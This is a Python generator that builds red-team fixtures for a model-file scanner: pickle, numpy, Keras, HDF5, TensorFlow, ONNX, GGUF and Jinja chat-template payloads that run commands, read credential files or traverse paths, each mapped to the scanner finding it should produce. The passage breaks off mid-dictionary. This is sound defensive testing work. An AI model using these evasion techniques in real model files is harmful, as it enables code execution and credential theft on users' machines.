#!/usr/bin/python3
"""Second red-team round for ward's model analysis (issue 13): techniques that
differ from everything in testdata/redteam and testdata/redteam-pickle, built
from the 2025-26 public record and from reading the loaders' sources. Run with
Debian's python3 (python3-numpy, python3-h5py, python3-onnx; zstd(1) for the
one zstd file):

    /usr/bin/python3 checks/model/testdata/redteam2/gen_redteam2.py [--table]

Every file is WRITTEN here, byte by byte or by the real library writing
containers around hand-made payloads, and NEVER loaded: the payloads would
run. They are harmless (os.system('true'), `echo ward-redteam`, a path under
/tmp/ward-redteam, or a file read into a model). manifest.json lists, per
file, the technique, its public source, the loader that would run it and the
finding ward must give (TestRedTeam2 in redteam_test.go); `--table` prints
the README table. HDF5 files carry write times (PyTables, h5py), so a rerun
changes their bytes, not what they hold.
"""
import bz2, gzip, io, json, lzma, os, struct, subprocess, sys, tarfile, zipfile

import h5py
import numpy as np
from onnx import TensorProto, helper

HERE = os.path.dirname(os.path.abspath(__file__))
sys.dont_write_bytecode = True  # no __pycache__ in testdata
sys.path.insert(0, os.path.dirname(HERE))  # redteam_wire.py, shared by the red-team generators
from redteam_wire import bu, const_str, fld, gguf, glob, node, varint  # noqa: E402
MAL = os.path.join(HERE, "malicious")
entries = []

CMD = "true"
ECHO = "echo ward-redteam"

CRIT, HIGH = "model-pickle-dangerous-global", "model-pickle-unknown-call"
PICKLE_LOAD = "pickle.load / torch.load(weights_only=False)"


def write(rel, data):
    p = os.path.join(MAL, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def add(rel, data, fmt, technique, source, loader, rule, evidence):
    if data is not None:
        write(rel, data)
    entries.append(dict(File=rel, Format=fmt, Technique=technique, Source=source, Loader=loader, Rule=rule, Evidence=evidence))


# ---------------------------------------------------------------- pickle opcodes
def su(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def call(mod, name, *args):
    return b"\x80\x02" + glob(mod, name) + b"(" + b"".join(bu(a) for a in args) + b"tR"


SYS = call("os", "system", CMD) + b"."
P0 = glob("os", "system") + b"(V" + CMD.encode() + b"\ntR."  # protocol 0, no NUL byte
NPRND = "numpy.random._pickle"
NP_SRC = "numpy/random/_pickle.py (numpy PR #22014: bit generators supply their own constructor)"

# ---------------------------------------------------------------- pickle: allowlisted callables that call their arguments
add("pickle/randomstate_ctor_gadget.pkl",
    b"\x80\x02" + glob(NPRND, "__randomstate_ctor") + b"(" + bu(CMD) + glob("distutils_helpers_future", "spawn_shell") + b"tR.",
    "pickle", "allowlisted numpy.random._pickle.__randomstate_ctor(name, ctor) calls ctor(name): an unlisted gadget run "
    "through a reconstructor every scanner admits", NP_SRC + "; unlisted-gadget class of JFrog CVE-2025-10157",
    "pickle.load / joblib.load", HIGH, "distutils_helpers_future.spawn_shell")
add("pickle/generator_ctor_gadget.pkl",
    b"\x80\x02" + glob(NPRND, "__generator_ctor") + b"(" + bu(CMD) + glob("distutils_helpers_future", "spawn_shell") + b"tR.",
    "pickle", "allowlisted numpy.random._pickle.__generator_ctor(name, ctor) calls ctor(name)", NP_SRC,
    "pickle.load / joblib.load", HIGH, "distutils_helpers_future.spawn_shell")
add("pickle/bit_generator_ctor_class.pkl",
    b"\x80\x02" + glob(NPRND, "__bit_generator_ctor") + b"(" + glob("distutils_helpers_future", "ShellOnInit") + b"tR.",
    "pickle", "allowlisted __bit_generator_ctor(cls) instantiates (calls) the class it is given (NumPy 2)", NP_SRC,
    "pickle.load (NumPy >= 1.25)", HIGH, "distutils_helpers_future.ShellOnInit")
add("pickle/randomstate_via_bitgen_ctor.pkl",
    b"\x80\x02" + glob(NPRND, "__randomstate_ctor") + b"(" + glob("distutils_helpers_future", "ShellOnInit") +
    glob(NPRND, "__bit_generator_ctor") + b"tR.",
    "pickle", "NumPy 2's own shape (__randomstate_ctor(cls, __bit_generator_ctor)) with an unlisted class", NP_SRC,
    "pickle.load (NumPy >= 1.25)", HIGH, "distutils_helpers_future.ShellOnInit")
add("pickle/rebuild_from_type_v1.pkl",
    b"\x80\x02" + glob("torch._tensor", "_rebuild_from_type") + b"(" + glob("distutils_helpers_future", "spawn_shell") +
    glob("torch", "Tensor") + b"(" + bu(CMD) + b"t}tR.",
    "pickle", "torch._tensor._rebuild_from_type (v1, in torch's weights_only allowlist) calls func(*args)",
    "torch/_tensor.py _rebuild_from_type; torch/_weights_only_unpickler.py; CVE-2025-32434 class (weights_only allowlist reach)",
    PICKLE_LOAD, HIGH, "distutils_helpers_future.spawn_shell")
add("pickle/copyreg_ext_registered.pkl",
    b"\x80\x02" + glob("copyreg", "add_extension") + b"(" + bu("os") + bu("system") + b"K\xf0tR0\x82\xf0(" + bu(CMD) + b"tR.",
    "pickle", "copyreg.add_extension('os', 'system', 240), then EXT1 240 resolves the callable with no name in the stream",
    "CPython Lib/copyreg.py extension registry; pickle EXT1/EXT2/EXT4 opcodes", "pickle.load", CRIT, "copyreg.add_extension")
add("pickle/unicode_raw_escape_names.pkl", b"\x80\x04Vo\\u0073\nVsy\\u0073tem\n\x93" + bu(CMD) + b"\x85R.",
    "pickle", "STACK_GLOBAL operands from protocol 0 UNICODE with raw-unicode-escape (\\u0073) spellings",
    "CPython _pickle.c load_unicode (raw_unicode_escape); GHSA-9gvj-pp9x-gcfr (picklescan parsing flaw class)", "pickle.load",
    CRIT, "os.system")
add("pickle/string_escape_names.pkl", b"\x80\x04S'\\x6fs'\nS'syst\\x65m'\n\x93" + bu(CMD) + b"\x85R.",
    "pickle", "STACK_GLOBAL operands from protocol 0 STRING with \\x escapes (decoded to str under encoding='ASCII')",
    "CPython _pickle.c load_string (escape_decode); GHSA-9gvj-pp9x-gcfr class", "pickle.load", CRIT, "os.system")
add("pickle/module_attribute_path.pkl", b"\x80\x04" + su("torch") + su("os.system") + b"\x93" + su(CMD) + b"\x85R.",
    "pickle", "a dotted name through an allowed package's own import (torch.os.system, protocol 4 getattr walk)",
    "CPython pickle find_class _getattribute (protocol 4 dotted names)", PICKLE_LOAD,
    CRIT, "torch.os.system")
add("pickle/build_on_class.pkl",
    b"\x80\x02" + glob("argparse", "Namespace") + b"N}" + bu("__eq__") + glob("distutils_helpers_future", "spawn_shell") + b"s\x86b0N.",
    "pickle", "BUILD with slot state on a class object: setattr on an allowlisted class, replacing a method for every later user",
    "CPython pickle load_build (setattr of slotstate); fickling module-override tests (class variant)", "pickle.load",
    "model-pickle-mutates-module", "argparse.Namespace")
add("pickle/persid_argument.pkl", b"\x80\x02" + glob("distutils_helpers_future", "spawn_shell") + b"(" + bu(CMD) + b"tR\x85Q.",
    "pickle", "the call sits inside a BINPERSID id: it runs before persistent_load ever sees it",
    "CPython pickle load_binpersid; torch.load persistent_load", "torch.load(weights_only=False)", HIGH,
    "distutils_helpers_future.spawn_shell")
add("pickle/compat_imap.pkl",
    glob("__builtin__", "list") + b"(" + glob("itertools", "imap") + b"(" + glob("os", "system") + b"(lp0\nV" + CMD.encode() +
    b"\natRtR.", "pickle", "itertools.imap (renamed to builtins.map by fix_imports) maps os.system over a list; list() runs it",
    "CPython Lib/_compat_pickle.py NAME_MAPPING (protocol < 3)", "pickle.load", CRIT, "os.system")

# ---------------------------------------------------------------- pickle: wrappers and containers
half = len(SYS) // 2
add("joblib/gzip_two_members.joblib", gzip.compress(SYS[:half], mtime=0) + gzip.compress(SYS[half:], mtime=0),
    "joblib", "pickle split across two gzip members (neither member alone holds the call)",
    "RFC 1952 multi-member streams; ReversingLabs nullifAI (Feb 2025) compressed-pickle evasion", "joblib.load", CRIT, "os.system")
add("joblib/bz2_two_streams.joblib", bz2.compress(SYS[:half]) + bz2.compress(SYS[half:]),
    "joblib", "pickle split across two concatenated bzip2 streams", "Python bz2 multi-stream decompression; nullifAI class",
    "joblib.load", CRIT, "os.system")
add("joblib/xz_two_streams.joblib", lzma.compress(SYS[:half]) + lzma.compress(SYS[half:]),
    "joblib", "pickle split across two concatenated xz streams", "Python lzma multi-stream .xz; nullifAI class",
    "joblib.load", CRIT, "os.system")
add("joblib/lzma_small_dict.joblib",
    lzma.compress(SYS, format=lzma.FORMAT_ALONE, filters=[{"id": lzma.FILTER_LZMA1, "dict_size": 1 << 16}]),
    "joblib", "lzma-alone header with a non-default dictionary size (joblib matches only the first bytes)",
    "joblib/compressor.py _LZMA_PREFIX; .lzma header format", "joblib.load", CRIT, "os.system")
add("joblib/xz_sha256_check.joblib", lzma.compress(SYS, check=lzma.CHECK_SHA256),
    "joblib", "xz stream with a SHA-256 integrity check instead of CRC64", "xz file format 1.1.0 (check IDs)", "joblib.load",
    CRIT, "os.system")
with open("/tmp/ward-redteam2-sys.pkl", "wb") as fh:
    fh.write(SYS)
add("pickle/frame.pkl.zst", subprocess.run(["zstd", "-q", "-c", "--no-check", "/tmp/ward-redteam2-sys.pkl"], capture_output=True,
                                          check=True).stdout,
    "pickle", "zstd-compressed pickle (pandas infers the codec from .zst)", "pandas.read_pickle compression='infer' (zstd since 1.4)",
    "pandas.read_pickle", CRIT, "os.system")
os.remove("/tmp/ward-redteam2-sys.pkl")
t = io.BytesIO()
with tarfile.open(fileobj=t, mode="w:xz") as tf:
    ti = tarfile.TarInfo("frame.pkl")
    ti.size, ti.mtime = len(SYS), 0
    tf.addfile(ti, io.BytesIO(SYS))
add("pickle/frame.pkl.tar.xz", t.getvalue(), "pickle", "pickle as the only member of a .tar.xz (pandas reads tar archives)",
    "pandas.read_pickle compression='tar' (pandas 1.5+)", "pandas.read_pickle", CRIT, "os.system")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as z:
    z.writestr(zipfile.ZipInfo("archive/data.pkl", (2025, 1, 1, 0, 0, 0)), b"\x80\x02}q\x00.")
    z.writestr(zipfile.ZipInfo("archive/version", (2025, 1, 1, 0, 0, 0)), "3\n")
add("torch/pickle_then_zip.pt", SYS + zb.getvalue(), "torch",
    "polyglot: a pickle, then a clean PyTorch zip (zip readers find the archive from the end; torch.load sees no PK "
    "at byte 0 and unpickles the start)", "torch/serialization.py _is_zipfile (checks the first bytes); CVE-2025-10155 (format confusion)",
    "torch.load (legacy path)", CRIT, "os.system")
zb = io.BytesIO()
with zipfile.ZipFile(zb, "w") as z:
    with z.open(zipfile.ZipInfo("archive/data.pkl", (2025, 1, 1, 0, 0, 0)), "w", force_zip64=True) as f:
        f.write(SYS)
    z.writestr(zipfile.ZipInfo("archive/version", (2025, 1, 1, 0, 0, 0)), "3\n")
add("torch/zip64_member.pt", zb.getvalue(), "torch", "data.pkl written with zip64 extra fields (sizes in the extra block)",
    "APPNOTE 4.5.3 zip64; miniz (torch) reads zip64", "torch.load", CRIT, "os.system")


def npy(header, body):
    h = header.encode("latin1")
    h += b" " * (64 - (10 + len(h) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(h)) + h + body


add("numpy/duplicate_descr.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), 'descr': '|O', }", SYS),
    "numpy", "header dict names descr twice: '<f8' first, '|O' last (Python's dict literal keeps the last)",
    "numpy/lib/format.py (ast.literal_eval of the header); Python dict display semantics", "numpy.load(allow_pickle=True)",
    CRIT, "os.system")
add("numpy/escaped_key.npy", npy("{'d\\x65scr': '|O', 'fortran_order': False, 'shape': (1,), }", SYS),
    "numpy", "the key itself is an escaped literal ('d\\x65scr')", "numpy/lib/format.py (ast.literal_eval)",
    "numpy.load(allow_pickle=True)", CRIT, "os.system")
add("numpy/comment_in_header.npy", npy("{'descr': '\\x7cO', # a comment Python's parser drops\n 'fortran_order': False, 'shape': (1,), }", SYS),
    "numpy", "a Python comment inside the header dict (ast.literal_eval ignores it) next to an escaped '|O'",
    "numpy/lib/format.py (safe_eval of the header: Python's tokenizer drops comments)", "numpy.load(allow_pickle=True)",
    CRIT, "os.system")
b = io.BytesIO()
with zipfile.ZipFile(b, "w", zipfile.ZIP_BZIP2) as z:
    z.writestr(zipfile.ZipInfo("a.npy", (2025, 1, 1, 0, 0, 0)), npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", SYS))
add("numpy/bzip2_member.npz", b.getvalue(), "numpy", "npz member compressed with bzip2 (method 12; numpy.load uses zipfile)",
    "APPNOTE method 12; Python zipfile ZIP_BZIP2", "numpy.load(allow_pickle=True)['a']", CRIT, "os.system")

# ---------------------------------------------------------------- Keras
def zput(z, name, data, method=None):
    info = zipfile.ZipInfo(name, date_time=(2025, 1, 1, 0, 0, 0))
    info.compress_type = z.compression if method is None else method
    z.writestr(info, data)


def dense(**extra):
    cfg = {"name": "dense", "units": 2, "activation": "linear"}
    cfg.update(extra)
    return {"module": "keras.layers", "class_name": "Dense", "config": cfg, "registered_name": None}


def seq(*layers):
    return {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {
        "name": "sequential", "layers": [{"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                                          "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}}] + list(layers)}}


def weights_h5():
    bio = io.BytesIO()
    with h5py.File(bio, "w") as f:
        f.create_group("layers/dense/vars").create_dataset("0", data=np.zeros((4, 2), dtype="float32"))
    return bio.getvalue()


def keras_zip(members):
    """members: (name, data[, zip method]); metadata.json first, as Keras writes it."""
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", zipfile.ZIP_DEFLATED) as z:
        zput(z, "metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-06-01@00:00:00"}))
        for m in members:
            zput(z, *m)
    return bio.getvalue()


K3 = "keras.saving.load_model (Keras 3)"
KU = "model-keras-unsafe-module"
OS_FN = json.dumps(seq(dense(activation={"module": "os", "class_name": "function", "config": "system", "registered_name": None})))
add("keras/function_name_in_config.keras", keras_zip([("config.json", json.dumps(seq(dense(activation={
    "module": "keras.src.saving.saving_lib", "class_name": "function", "config": "load_model", "registered_name": "function"})))),
    ("model.weights.h5", weights_h5())]),
    "Keras 3 .keras", "class_name 'function' with the function's name in config (a keras.src module, a name no class list holds)",
    "io-no/CVE-Reports #5 (CVE-2025-9906/8747: function objects resolved from module + config)", K3 + ", safe_mode=True",
    KU, "keras.src.saving.saving_lib.load_model")
nb = io.BytesIO()
with zipfile.ZipFile(nb, "w") as z:
    zput(z, "dense/0.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", SYS))
add("keras/npz_weights.keras", keras_zip([("config.json", json.dumps(seq(dense()))), ("model.weights.npz", nb.getvalue())]),
    "Keras 3 .keras", "weights stored as model.weights.npz whose member is an object array (Keras' NpzIOStore loads with "
    "allow_pickle=True)", "keras/src/saving/saving_lib.py NpzIOStore (np.load(..., allow_pickle=True))", K3 + ", safe_mode=True",
    CRIT, "os.system")
import warnings
warnings.simplefilter("ignore")
add("keras/duplicate_config.keras", keras_zip([("config.json", json.dumps(seq(dense()))), ("config.json", OS_FN),
                                               ("model.weights.h5", weights_h5())]),
    "Keras 3 .keras", "two config.json members: a clean one first, os.system in the one Python's zipfile returns (the last)",
    "Python zipfile (NameToInfo keeps the last duplicate); Sonatype CVE-2025-1944 class (zip name confusion)", K3, KU, "os.system")
for method, mname in [(zipfile.ZIP_BZIP2, "bzip2"), (zipfile.ZIP_LZMA, "lzma")]:
    add("keras/%s_config.keras" % mname, keras_zip([("config.json", OS_FN, method), ("model.weights.h5", weights_h5())]),
        "Keras 3 .keras", "config.json stored with %s compression (method %d), which Python's zipfile reads and Go's "
        "archive/zip does not" % (mname, method), "APPNOTE 4.4.5 compression methods; Python zipfile (Keras saving_lib reads "
        "config.json through it); nullifAI class (compression scanners skip)", K3, KU, "os.system")
add("keras/tfsmlayer_outside.keras", keras_zip([("config.json", json.dumps(seq({"module": "keras.layers", "class_name": "TFSMLayer",
    "registered_name": None, "config": {"name": "t", "filepath": "/tmp/ward-redteam/saved_model", "call_endpoint": "serve"}}))),
    ("model.weights.h5", weights_h5())]),
    "Keras 3 .keras", "TFSMLayer loads and runs a SavedModel from a path outside the archive (its graph is not in the file reviewed)",
    "Keras 3 TFSMLayer (keras/src/export/tfsm_layer.py); safe_mode does not cover it", K3, "model-keras-tfsm-outside",
    "/tmp/ward-redteam/saved_model")

HUB = "keras-team/keras-hub PR #2517 (Jan 2026): safe_mode bypass, tokenizers read vocabulary/proto files from any path"
add("keras/hub_wordpiece_vocab.keras", keras_zip([("config.json", json.dumps(seq({"module": "keras_hub.src.tokenizers.word_piece_tokenizer",
    "class_name": "WordPieceTokenizer", "registered_name": "keras_hub>WordPieceTokenizer",
    "config": {"name": "tokenizer", "vocabulary": "/etc/passwd", "sequence_length": 8}}))), ("model.weights.h5", weights_h5())]),
    "Keras 3 .keras", "keras-hub WordPieceTokenizer whose vocabulary is a path: the file is read into the model at load",
    HUB, K3 + " with keras-hub, safe_mode=True", "model-keras-file-access", "/etc/passwd")
add("keras/hub_sentencepiece_proto.keras", keras_zip([("config.json", json.dumps(seq({"module": "keras_hub.src.models.gemma.gemma_tokenizer",
    "class_name": "GemmaTokenizer", "registered_name": "keras_hub>GemmaTokenizer",
    "config": {"name": "tokenizer", "proto": "/root/.config/gcloud/application_default_credentials.json"}}))),
    ("model.weights.h5", weights_h5())]),
    "Keras 3 .keras", "a model tokenizer built on SentencePieceTokenizer given a proto path (a cloud credential file)",
    HUB, K3 + " with keras-hub, safe_mode=True", "model-keras-file-access", "application_default_credentials.json")



# ---------------------------------------------------------------- HDF5 read by PyTables (pandas.read_hdf)
# PyTables unpickles any fixed-length string attribute ending in "." when it
# reads it (tables/attributeset.py); pandas stores its own metadata that
# way (protocol 0). pandas writes the benign stores; the malicious ones swap
# one attribute for a payload, or put it deep in the group tree.
import pandas as pd  # noqa: E402

BEN = os.path.join(HERE, "benign")
os.makedirs(BEN, exist_ok=True)
benign = []
warnings.simplefilter("ignore")
frame = pd.DataFrame({"a": [1, 2], "f": [0.5, 1.5]}, index=pd.date_range("2020-01-01", periods=2, tz="UTC"))
frame.to_hdf(os.path.join(BEN, "pandas_fixed_utc.h5"), key="df", mode="w", format="fixed")
benign.append("pandas_fixed_utc.h5")
pd.DataFrame({"a": [1, 2], "c": pd.Categorical(["u", "v"])}).to_hdf(os.path.join(BEN, "pandas_table_categorical.h5"), key="df",
                                                                       mode="w", format="table", complevel=9, complib="zlib")
benign.append("pandas_table_categorical.h5")
pd.Series([1.0, 2.0], index=pd.period_range("2020-01", periods=2, freq="M")).to_hdf(os.path.join(BEN, "pandas_period_series.h5"),
                                                                                    key="s", mode="w")
benign.append("pandas_period_series.h5")
PT = "PyTables issues #47, #813 (attributes unpickled on read); pandas PR #35554 (read_hdf can run pickle)"
RH = "pandas.read_hdf / pd.HDFStore / tables.open_file"
p = os.path.join(MAL, "hdf5/pandas_tz_swapped.h5")
os.makedirs(os.path.dirname(p), exist_ok=True)
frame.to_hdf(p, key="df", mode="w", format="fixed")
with h5py.File(p, "r+") as f:
    f["df/axis1"].attrs["tz"] = np.bytes_(P0)
add("hdf5/pandas_tz_swapped.h5", None, "HDF5 (PyTables)", "a pandas-written store whose index tz attribute (a protocol 0 "
    "pickle pandas itself writes) is swapped for a payload", PT, RH, CRIT, "os.system")
with h5py.File(os.path.join(MAL, "hdf5/deep_group.h5"), "w") as f:
    f.create_group("store/frames/train").attrs["non_index_axes"] = np.bytes_(P0)
add("hdf5/deep_group.h5", None, "HDF5 (PyTables)", "payload in an attribute three old-style groups down (symbol-table groups)",
    PT, RH, CRIT, "os.system")
with h5py.File(os.path.join(MAL, "hdf5/dense_links.h5"), "w", libver="latest") as f:
    for i in range(20):
        f.create_group("df/g%d" % i)
    f.create_dataset("df/g7/values", data=np.zeros(3)).attrs["info"] = np.bytes_(P0)
add("hdf5/dense_links.h5", None, "HDF5 (PyTables)", "payload on a dataset inside a new-style group with dense link storage "
    "(fractal heap, 20 links)", PT + "; HDF5 file format spec (link info message)", RH, CRIT, "os.system")

# ---------------------------------------------------------------- TensorFlow (hand-written protobuf)
def graph(nodes):
    return b"".join(fld(1, n) for n in nodes)


BASE = [node("x", "Placeholder"), node("y", "MatMul", ["x", "x"])]
TF = "tf.saved_model.load / TF Serving"
TFOP = "model-tf-dangerous-op"
add("tf/second_meta_graph/saved_model.pb", fld(1, 1) + fld(2, fld(2, graph(BASE))) +
    fld(2, fld(2, graph(BASE + [const_str("p", "/etc/passwd"), node("r", "ReadFile", ["p"])]))),
    "TF SavedModel", "a clean serving meta graph first, ReadFile in a second meta graph (another tag set)",
    "tensorflow/core/protobuf/saved_model.proto (repeated meta_graphs, chosen by tags)", "tf.saved_model.load(dir, tags=[...])",
    TFOP, "ReadFile")
add("tf/frozen_graph.pb", graph(BASE + [const_str("p", "/etc/passwd"), node("r", "ReadFile", ["p"])]) + fld(4, fld(1, 1)),
    "TF GraphDef", "a bare frozen GraphDef (no SavedModel wrapper) whose graph reads a file",
    "tf.compat.v1.GraphDef + tf.import_graph_def (frozen graphs); OpenCV dnn readNetFromTensorflow", "tf.import_graph_def + Session.run",
    TFOP, "ReadFile")
add("tf/savev2_fixed_path/saved_model.pb", fld(1, 1) + fld(2, fld(2, graph(BASE + [const_str("p", "/home/user/.bashrc"),
    const_str("n", "x"), node("s", "SaveV2", ["p", "n", "n", "y"])]))),
    "TF SavedModel", "SaveV2 (an op every SavedModel holds) given a constant prefix outside the model: a checkpoint written over "
    "~/.bashrc", "TensorFlow io_ops SaveV2; issue 13 class: file writers", TF, TFOP, "/home/user/.bashrc")

add("tf/immutable_const_file/saved_model.pb", fld(1, 1) + fld(2, fld(2, graph(BASE + [node("c", "ImmutableConst", [],
    fld(5, fld(1, "memory_region_name") + fld(2, fld(2, "/root/.aws/credentials"))))]))),
    "TF SavedModel", "ImmutableConst whose memory region is a file path: its bytes become a tensor the model can return",
    "TensorFlow ImmutableConst (core/kernels/immutable_constant_op.cc: Env::NewReadOnlyMemoryRegionFromFile)", TF, TFOP,
    "/root/.aws/credentials")

# ---------------------------------------------------------------- ONNX: external data everywhere onnx.load looks
def external(t, loc):
    t.data_location = TensorProto.EXTERNAL
    del t.external_data[:]
    e = t.external_data.add()
    e.key, e.value = "location", loc
    t.ClearField("float_data")


def onnx_graph(nodes, inits=()):
    return helper.make_graph(nodes, "g", [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
                             [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])], list(inits))


OX = "onnx.load / onnxruntime.InferenceSession"
OXR = "model-onnx-external-data-path"
OXS = "onnx/external_data_helper.py _get_all_tensors (initializers and attribute tensors, recursively); CVE-2024-27318 class"
t = helper.make_tensor("c", TensorProto.FLOAT, [2], [0.0, 0.0])
external(t, "../../../../etc/passwd")
add("onnx/constant_attribute.onnx", helper.make_model(onnx_graph([helper.make_node("Constant", [], ["c"], value=t),
                                                                  helper.make_node("Add", ["x", "c"], ["y"])])).SerializeToString(),
    "ONNX", "external data on a Constant node's value attribute, not an initializer", OXS, OX, OXR, "etc/passwd")
t = helper.make_tensor("w", TensorProto.FLOAT, [2], [0.0, 0.0])
external(t, "/root/.ssh/id_rsa")
then_g = helper.make_graph([helper.make_node("Identity", ["w"], ["o"])], "then", [], [helper.make_tensor_value_info("o", TensorProto.FLOAT, [2])], [t])
else_g = helper.make_graph([helper.make_node("Identity", ["x"], ["o2"])], "else", [], [helper.make_tensor_value_info("o2", TensorProto.FLOAT, [2])])
add("onnx/if_branch_initializer.onnx", helper.make_model(onnx_graph([
    helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("b", TensorProto.BOOL, [], [True])),
    helper.make_node("If", ["cond"], ["y"], then_branch=then_g, else_branch=else_g)])).SerializeToString(),
    "ONNX", "external data on an initializer of an If node's then-branch subgraph", OXS, OX, OXR, "id_rsa")
vals = helper.make_tensor("sv", TensorProto.FLOAT, [1], [1.0])
external(vals, "/proc/self/environ")
g = onnx_graph([helper.make_node("Identity", ["x"], ["y"])])
g.sparse_initializer.append(helper.make_sparse_tensor(vals, helper.make_tensor("si", TensorProto.INT64, [1], [0]), [2]))
add("onnx/sparse_initializer.onnx", helper.make_model(g).SerializeToString(), "ONNX",
    "external data on the values of a sparse initializer", "onnx.proto SparseTensorProto; " + OXS, OX, OXR, "/proc/self/environ")
t = helper.make_tensor("fc", TensorProto.FLOAT, [2], [0.0, 0.0])
external(t, "/etc/shadow")
fn = helper.make_function("custom.dom", "F", ["a"], ["b"], [helper.make_node("Constant", [], ["k"], value=t),
                                                           helper.make_node("Add", ["a", "k"], ["b"])], [helper.make_opsetid("", 17)])
add("onnx/local_function_constant.onnx", helper.make_model(onnx_graph([helper.make_node("F", ["x"], ["y"], domain="custom.dom")]),
    functions=[fn], opset_imports=[helper.make_opsetid("", 17), helper.make_opsetid("custom.dom", 1)]).SerializeToString(),
    "ONNX", "external data inside a model-local function (custom domain) body", "onnx.proto ModelProto.functions (IR 8); " + OXS,
    OX, OXR, "/etc/shadow")


# ---------------------------------------------------------------- GGUF and chat templates
EVIL_TPL = "{{ lipsum.__globals__['os'].popen('" + ECHO + "').read() }}"
LOOP = "{% for message in messages %}{{ message['content'] }}{% endfor %}"
TPL = "transformers apply_chat_template, vLLM, TGI"
TPLR = "model-chat-template-injection"
add("templates/gguf_duplicate_key.gguf", gguf([("general.architecture", "llama"), ("tokenizer.chat_template", LOOP),
                                               ("tokenizer.chat_template", EVIL_TPL)]),
    "GGUF", "tokenizer.chat_template written twice: a clean first value, the payload second (readers differ on which wins)",
    "GGUF spec (keys should be unique, nothing enforces it); gguf-py GGUFReader duplicate-key handling; CVE-2024-34359",
    "llama-cpp-python / transformers GGUF loading", "model-gguf-chat-template-injection", "__globals__")

def gguf_be(kvs):
    """The same file big-endian: every number after the magic swapped (gguf-py reads these)."""
    b = b"GGUF" + struct.pack(">IQQ", 3, 0, len(kvs))
    for k, v in kvs:
        kb, vb = k.encode(), v.encode()
        b += struct.pack(">Q", len(kb)) + kb + struct.pack(">I", 8) + struct.pack(">Q", len(vb)) + vb
    return b


add("templates/gguf_big_endian.gguf", gguf_be([("general.architecture", "llama"), ("tokenizer.chat_template", EVIL_TPL)]),
    "GGUF", "big-endian GGUF (version read as 0x03000000 little-endian): scanners that refuse the version pass it",
    "gguf-py GGUFReader (byte order detected from the version field); GGUF spec (big-endian files for s390x); CVE-2024-34359",
    "transformers from_pretrained(gguf_file=...) (gguf-py)", "model-gguf-chat-template-injection", "__globals__")
for name, body, tech, src, ev in [
    ("kwarg_names", "{% set n = dict(__class__=1)|list|first %}{{ ()|attr(n) }}",
     "the name is a keyword argument's name, read back with dict(...)|list|first", "PayloadsAllTheThings SSTI (Jinja2 filter bypass with dict keys)", "__class__"),
    ("select_string", "{% set u = (()|select|string)[24] %}{{ ()|attr(u ~ u ~ 'class' ~ u ~ u) }}",
     "underscore cut out of a generator's repr (()|select|string)[24], no global used", "SSTI filter-bypass cheat sheets (Jinja2: string of a generator object)", "|attr("),
    ("format_map", "{{ '{m.__class__.__mro__}'.format_map({'m': messages}) }}",
     "str.format_map field that walks attributes", "Jinja sandbox CVE-2019-10906 (format_map); Python format-string attribute access", "__class__"),
    ("extends_file", "{% extends '/etc/passwd' %}",
     "{% extends %} of an absolute path (a template loader reads it)", "Jinja2 template inheritance; issue 13 (include/import)", "/etc/passwd"),
]:
    add("templates/%s/chat_template.jinja" % name, LOOP + body, "chat_template.jinja", tech, src, TPL, TPLR, ev)

add("templates/name_traversal/tokenizer_config.json", json.dumps({"chat_template": [
    {"name": "default", "template": LOOP},
    {"name": "../../../../home/user/.config/autostart/ward-redteam", "template": "[Desktop Entry]\nExec=" + ECHO + "\n"}]}),
    "tokenizer_config.json", "a named chat template whose name is a path: save_pretrained writes its text outside the folder",
    "huggingface/transformers PR #46191 (2026): chat template names used verbatim as file names",
    "tokenizer.save_pretrained / push_to_hub / Trainer checkpoints", "model-chat-template-name-path", "autostart/ward-redteam")

add("templates/mapping_form/tokenizer_config.json", json.dumps({"chat_template": {"default": LOOP, "tool_use": LOOP +
    "{{ cycler.__init__.__globals__.os.popen('" + ECHO + "').read() }}"}}),
    "tokenizer_config.json", "chat_template as a mapping of names to templates (transformers keeps such a dict as it is; "
    "tool_use is rendered whenever tools are passed)", "transformers tokenization_utils_base (chat_template dict, "
    "get_chat_template picks 'tool_use' or 'default'); CVE-2024-34359", TPL + " (tools=...)", TPLR, "__globals__")

# ---------------------------------------------------------------- Hugging Face configs naming code elsewhere
HFR = "model-hf-remote-code"
add("hf/processor/preprocessor_config.json", json.dumps({"image_processor_type": "XImageProcessor", "auto_map": {
    "AutoImageProcessor": "attacker/proc--image_processing_x.XImageProcessor"}}),
    "Hugging Face preprocessor_config.json", "auto_map of an image processor in another repository (not config.json)",
    "transformers dynamic_module_utils get_class_from_dynamic_module ('repo--module.Class'); AutoImageProcessor",
    "AutoImageProcessor.from_pretrained(trust_remote_code=True)", HFR, "attacker/proc")
add("hf/tokenizer_pair/tokenizer_config.json", json.dumps({"tokenizer_class": "XTokenizer", "auto_map": {
    "AutoTokenizer": ["attacker/tok--tokenization_x.XTokenizer", None]}}),
    "Hugging Face tokenizer_config.json", "AutoTokenizer auto_map as a [slow, fast] pair naming another repository",
    "transformers tokenization_auto (auto_map AutoTokenizer is a pair)", "AutoTokenizer.from_pretrained(trust_remote_code=True)",
    HFR, "attacker/tok")

IDX = "huggingface/transformers issues #46097, #47176 (2026): get_checkpoint_shard_files joins weight_map names unchecked"
write("hf/shard_traversal/config.json", json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}))
add("hf/shard_traversal/model.safetensors.index.json", json.dumps({"metadata": {"total_size": 16}, "weight_map": {
    "model.embed_tokens.weight": "model-00001-of-00002.safetensors",
